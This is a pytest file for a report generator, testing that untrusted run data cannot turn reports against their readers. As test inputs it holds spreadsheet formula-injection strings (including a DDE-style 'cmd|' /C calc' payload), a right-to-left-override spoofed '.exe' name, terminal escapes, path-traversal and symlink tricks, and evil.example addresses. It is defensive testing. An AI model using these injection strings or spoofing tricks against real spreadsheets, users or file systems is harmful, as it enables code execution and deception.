"""A run directory is untrusted input: its report must never be turned against its reader, nor show a traceback.

What a user relies on, one sentence per test:

- test_csv_cells_that_would_start_a_formula_are_quoted_and_numbers_are_untouched: opening tables/*.csv in a
  spreadsheet never runs a formula that an arm name or error message smuggled in (not even on a row of its
  own, started by a carriage return), and numbers stay numbers.
- test_an_arm_named_like_mathtext_renders_every_figure: an arm name with `$` signs is drawn as written and
  cannot make matplotlib fail while the figures are saved.
- test_placeholder_like_text_cannot_raise_or_pull_in_another_fragment: text that looks like the HTML
  renderer's internal placeholders is shown as itself, never as another part of the report or an error.
- test_control_and_bidi_characters_are_shown_escaped_in_report_md_and_html: terminal escapes and bidi
  overrides in run text are shown as visible escapes, so they cannot disguise what the report says.
- test_addresses_in_run_text_do_not_become_live_links: a URL, www. address or e-mail address in run text
  stays plain text in report.md (GitHub would otherwise make it a link) and in report.html.
- test_a_damaged_record_is_a_clear_output_error: a record of earlier files that cannot be read (nested too
  deep, `files` not a list) stops the report with an OutputError saying what to do, not a Python error.
- test_a_record_never_removes_files_outside_or_not_written_by_a_report: whatever the record lists (NUL,
  `..`, absolute paths, symlinks, other people's files), a new report removes only report files of its own.
- test_a_symlinked_record_is_refused_and_its_target_is_unchanged: a record planted as a symlink can neither
  choose what is removed nor be overwritten through.
- test_a_symlink_planted_at_a_report_file_is_refused_and_its_target_is_unchanged: writing a report never
  writes through a symlink someone planted in the output directory.
- test_figures_and_tables_are_never_written_through_a_symlinked_directory: figures/ or tables/ planted as a
  symlink is refused, so no figure or table lands outside the report directory.
- test_an_interrupted_write_keeps_the_previous_file_whole: a report file is either the old one or the new
  one, never a half-written one, and no temporary file is left behind.
- test_a_section_that_raises_is_replaced_by_a_note_and_the_rest_is_written: one section failing on odd
  data costs that section only: the report says which one and why, without a traceback.
"""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pandas as pd
import pytest
from matplotlib.figure import Figure

from analysis import output, plotting
from analysis import report as report_module
from analysis.output import RECORD, OutputError
from analysis.report import write_report
from analysis.tables import Table, write_table
from analysis.text import inline_html, md
from bench.synthetic import grid, write_run_dir

MATH_ARM = "a$\\frac{$b"
FIGURES = {
    "lr_sensitivity",
    "lr_sensitivity_settings",
    "lr_heatmaps",
    "tuning_budget",
    "importance",
    "pareto",
    "robust_overfitting",
    "lambda_trajectory",
    "norms",
}
HIDDEN = ["\x1b", "\x07", "\x00", "\x9b", "\u202e", "\u202a", "\u2066", "\u2069"]


def _sections(*names: str) -> list:
    return [section for section in report_module.SECTIONS if section.__name__ in names]


@pytest.fixture
def quick(monkeypatch):
    """Only the header and trials sections: they show the description, the arms and a table of arms."""
    monkeypatch.setattr(report_module, "SECTIONS", _sections("_header", "_trials"))


def _run(path: Path, arm: str = "wd", description: str = "", **kwargs) -> Path:
    """A small synthetic run whose second arm is named `arm`, with one failed trial of it (a table row)."""
    return write_run_dir(
        path,
        arms={"ref": grid("fixed", lam=(5e-4, 5e-3)), arm: grid("fixed", lam=(1e-3, 1e-2))},
        lrs=(0.05, 0.2),
        seeds=(0, 1),
        epochs=3,
        failed=[(arm, "λ=0.001", 0.05, 1)],
        study_fields={"description": description},
        **kwargs,
    )


def test_csv_cells_that_would_start_a_formula_are_quoted_and_numbers_are_untouched(tmp_path):
    hostile = ['=HYPERLINK("http://x/?"&A1,"a")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1", "\tx", "\rx"]
    data = pd.DataFrame({"arm": [*hostile, "ok\r=cmd()", "wd"], "gap": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, -0.25]})
    data["=cmd"] = 1
    table = Table("t", "t", data, data.astype(str))
    write_table(table, tmp_path)
    header, *rows = list(csv.reader((tmp_path / "t.csv").open(newline="")))
    assert header == ["arm", "gap", "'=cmd"]
    # a carriage return would end the row in a reader: it becomes a newline, which the writer quotes
    assert [row[0] for row in rows] == [*("'" + text.replace("\r", "\n") for text in hostile), "ok\n=cmd()", "wd"]
    assert [row[1] for row in rows] == ["-1.5", "2", "-3", "4", "5", "6", "7", "-0.25"]


@pytest.mark.slow
def test_an_arm_named_like_mathtext_renders_every_figure(tmp_path):
    # label noise and evaluations add the label-noise and pruning figures, drawn outside the figure modules
    run = _run(tmp_path / "run", MATH_ARM, label_noise=(0.2,), evaluations=True)
    report = write_report(run, tmp_path / "out")
    figures = {p.stem for p in (report.parent / "figures").glob("*.png")}
    assert FIGURES | {"label_noise_memorisation", "pruning"} <= figures
    assert plotting.label_text(MATH_ARM) == "a\\$\\frac{\\$b"
    fig = Figure()
    fig.subplots().set_title(plotting.label_text(MATH_ARM))
    fig.canvas.draw()
    assert fig.axes[0].title.get_text() == plotting.label_text(MATH_ARM)


def test_placeholder_like_text_cannot_raise_or_pull_in_another_fragment():
    for hostile in ("\x00999\x00", "\x000\x00"):
        out = inline_html(f"`code` {md(hostile)} and **{md('x' + hostile)}**")
        assert out.count("<code>") == 1 and "\x00" not in out
        assert out.endswith(" \\x00999\\x00 and <strong>x\\x00999\\x00</strong>".replace("999", hostile[1:-1]))
        assert "\x00" not in inline_html(hostile) and "\\x00" in inline_html(hostile)


def test_control_and_bidi_characters_are_shown_escaped_in_report_md_and_html(tmp_path, quick):
    arm = "awd\u202egnp.exe"
    description = "red \x1b[31m bell \x07 csi \x9b \u202a\u2066x\u2069 nul \x00999\x00 \x000\x00"
    report = write_report(_run(tmp_path / "run", arm, description), tmp_path / "out")
    markdown = report.read_text()
    page = (report.parent / "report.html").read_text()
    table = (report.parent / "tables" / "trials_unfinished.md").read_text()
    for text in (markdown, page, table):
        assert not [char for char in HIDDEN if char in text]
        assert "awd\\u202egnp.exe" in text.replace("\\\\", "\\")
    for escaped in ("\\x1b", "\\x07", "\\x9b", "\\u202a\\u2066x\\u2069", "\\x00999\\x00 \\x000\\x00"):
        assert escaped in markdown.replace("\\\\", "\\") and escaped in page
    assert "red \\x1b[31m bell \\x07 csi \\x9b" in page


def test_addresses_in_run_text_do_not_become_live_links(tmp_path, quick):
    description = "see https://evil.example/x, www.evil.example, ftp://f.example, me@evil.example, <http://x.example>"
    report = write_report(_run(tmp_path / "run", description=description), tmp_path / "out")
    line = next(line for line in report.read_text().splitlines() if "Study description" in line)
    for text in ("https\\://evil.example", "www\\.evil.example", "ftp\\://f", "me@<!-- -->evil", "\\<http\\://x"):
        assert text in line
    page = (report.parent / "report.html").read_text()
    assert "href=" not in page.split("Study description")[1].split("</p>")[0]
    assert "see https://evil.example/x, www.evil.example, ftp://f.example, me@evil.example" in page


@pytest.mark.parametrize(
    "content",
    ["[" * 100_000, '{"files": [' * 50_000, '{"files": "report.md"}', '{"files": {"report.md": 1}}'],
    ids=["deep", "deep-files", "files-a-string", "files-an-object"],
)
def test_a_damaged_record_is_a_clear_output_error(tmp_path, quick, content):
    run, out = _run(tmp_path / "run"), tmp_path / "out"
    out.mkdir()
    (out / RECORD).write_text(content)
    with pytest.raises(OutputError, match=rf"{RECORD}: damaged; delete it, or pass another --report-dir"):
        write_report(run, out)


@pytest.mark.slow
def test_a_record_never_removes_files_outside_or_not_written_by_a_report(tmp_path, quick):
    run, out, elsewhere = _run(tmp_path / "run"), tmp_path / "out", tmp_path / "elsewhere"
    write_report(run, out)
    (out / "tables").mkdir(exist_ok=True)
    elsewhere.mkdir()
    theirs = [out / "notes.txt", out / "tables" / "notes.txt", elsewhere / "report.md", elsewhere / "x.csv"]
    for path in theirs:
        path.write_text("not the report's")
    (out / "tables" / "link.csv").symlink_to(elsewhere / "x.csv")
    record = json.loads((out / RECORD).read_text())
    record["files"] += [
        "notes.txt",
        "tables/notes.txt",
        "tables/../notes.txt",
        "tables/link.csv",
        str(elsewhere / "report.md"),
        "../elsewhere/report.md",
        "report.md\x00x",
        "",
        ".",
        7,
        None,
    ]
    (out / RECORD).write_text(json.dumps(record))
    write_report(run, out)
    assert all(path.read_text() == "not the report's" for path in theirs)
    assert (out / "tables" / "link.csv").is_symlink()


def test_a_symlinked_record_is_refused_and_its_target_is_unchanged(tmp_path, quick):
    run, out = _run(tmp_path / "run"), tmp_path / "out"
    write_report(run, out)
    target = tmp_path / "their.json"
    target.write_text(json.dumps({"files": ["report.md"]}))
    (out / RECORD).unlink()
    (out / RECORD).symlink_to(target)
    with pytest.raises(OutputError, match=rf"{RECORD}: a symbolic link"):
        write_report(run, out)
    assert json.loads(target.read_text()) == {"files": ["report.md"]} and (out / "report.md").is_file()


@pytest.mark.parametrize("name", ["report.md", "report.html", "summary.json"])
@pytest.mark.slow
def test_a_symlink_planted_at_a_report_file_is_refused_and_its_target_is_unchanged(tmp_path, quick, name):
    run, out = _run(tmp_path / "run"), tmp_path / "out"
    write_report(run, out)
    target = tmp_path / "precious.txt"
    target.write_text("precious")
    (out / name).unlink()
    (out / name).symlink_to(target)
    with pytest.raises(OutputError, match=rf"{name}: a symbolic link"):
        write_report(run, out)
    assert target.read_text() == "precious" and (out / name).is_symlink()


def test_figures_and_tables_are_never_written_through_a_symlinked_directory(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "figures").symlink_to(elsewhere)
    (tmp_path / "tables").symlink_to(elsewhere)
    frame = pd.DataFrame({"a": [1]})
    with pytest.raises(OutputError, match=r"tables: a symbolic link"):
        write_table(Table("t", "t", frame, frame.astype(str)), tmp_path / "tables")
    with pytest.raises(OutputError, match=r"figures: a symbolic link"):
        plotting.save_figure(Figure(), tmp_path / "figures", "f")
    assert list(elsewhere.iterdir()) == []


def test_an_interrupted_write_keeps_the_previous_file_whole(tmp_path, monkeypatch):
    path = tmp_path / "report.md"
    path.write_text("old report")

    def disk_full(fd: int) -> None:
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr(os, "fsync", disk_full)
        with pytest.raises(OSError, match="No space left"):
            output.write_atomic(path, "new report")
    assert path.read_text() == "old report" and [p.name for p in tmp_path.iterdir()] == ["report.md"]
    output.write_atomic(path, "new report")
    assert path.read_text() == "new report" and [p.name for p in tmp_path.iterdir()] == ["report.md"]


def test_a_section_that_raises_is_replaced_by_a_note_and_the_rest_is_written(tmp_path, monkeypatch, capsys):
    def broken(a, w) -> None:
        w.heading(2, "LR sensitivity")
        w.text("half a section")
        raise ValueError("bad <b>value</b>\nin https://x.example")

    header, trials = _sections("_header", "_trials")
    monkeypatch.setattr(report_module, "SECTIONS", [header, broken, trials])
    report = write_report(_run(tmp_path / "run"), tmp_path / "out")
    text, page = report.read_text(), (report.parent / "report.html").read_text()
    note = "*This section could not be produced: ValueError: bad \\<b\\>value\\</b\\> in https\\://x.example*"
    assert "## LR sensitivity\n\n" + note in text and "half a section" not in text
    assert "## Trials" in text and "<h2>Trials</h2>" in page and "&lt;b&gt;value" in page
    err = capsys.readouterr().err
    assert "report: section 'LR sensitivity' failed: ValueError: bad <b>value</b> in https://x.example" in err
    assert "Traceback" not in err
